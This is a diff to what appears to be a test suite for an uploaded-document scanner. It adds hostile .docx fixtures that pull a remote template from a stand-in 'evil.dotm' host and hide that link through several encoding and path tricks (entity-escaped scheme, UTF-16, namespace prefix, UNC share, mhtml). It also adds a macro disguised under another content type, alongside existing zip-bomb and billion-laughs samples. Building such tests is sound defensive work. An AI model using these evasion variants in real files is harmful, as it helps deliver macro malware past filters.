@@ -33,6 +33,22 @@ AFAR = (
     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     'Target="https://example.org/evil.dotm"/></Relationships>'
 )
+LINKS = {  # as whoever opens the file reads them
+    "quotes": AFAR.replace('"', "'"),
+    "blanks": AFAR.replace("=", " = "),
+    "letter": AFAR.replace("https", "&#104;ttps"),
+    "utf16": f'<?xml version="1.0" encoding="utf-16"?>{AFAR}'.encode("utf-16"),
+    "prefix": AFAR.replace("<R", "<a:R")
+    .replace("</R", "</a:R")
+    .replace("hips>", 'hips xmlns:a="b">', 1),
+    "share": AFAR.replace("https://example.org", "file:////example.org/a"),
+    "help": AFAR.replace("https:", "mhtml:https:"),
+}
+TYPES = "[Content_Types].xml"
+MACRO_TYPES = (
+    f'<Types><Override PartName="/word/document.xml" ContentType="{papers.MAINS["docx"][1]}"/>'
+    '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
+)
 DAMAGED = zipped({"[Content_Types].xml": "x"}, 0).replace(b"xPK", b"yPK")
 BOMB = zipped({"佐证.pdf": bytes(90 * 1024 * 1024)})
 ZTXT = papers.png_chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(80_000_000)))
@@ -123,6 +139,14 @@ OFFICES = [
     ("docx_with_vba", "表.docx", office("docx", {"word/vbaProject.bin": b"x"}), MACRO),
     ("docx_with_control", "表.docx", office("docx", {"word/activeX/a.bin": b"x"}), MACRO),
     ("docx_from_afar", "表.docx", office("docx", {"word/_rels/settings.xml.rels": AFAR}), "别处"),
+    *((f"docx_from_afar_{how}", "表.docx",
+       office("docx", {"word/_rels/settings.xml.rels": links}), "别处")
+      for how, links in LINKS.items()),
+    ("docx_from_afar_capitals", "表.docx", office("docx", {"word/_RELS/a.xml.RELS": AFAR}), "别处"),
+    ("docx_with_broken_links", "表.docx", office("docx", {"_rels/.rels": AFAR[:-9]}), STRUCTURE),
+    ("docx_with_macro_of_another_name", "表.docx",
+     office("docx", {"[Content_Types].xml": MACRO_TYPES}), MACRO),
+    ("docx_packed_strangely", "表.docx", zipped({TYPES: "x" * 99}, 14), "压缩方式"),
     ("docx_with_package", "表.docx",
      office("docx", {"word/embeddings/o.bin": compound("\x01Ole10Native")}), "嵌着"),
     ("billion_laughs", "表.docx", office("docx", {"word/a.xml": LAUGHS}), STRUCTURE),
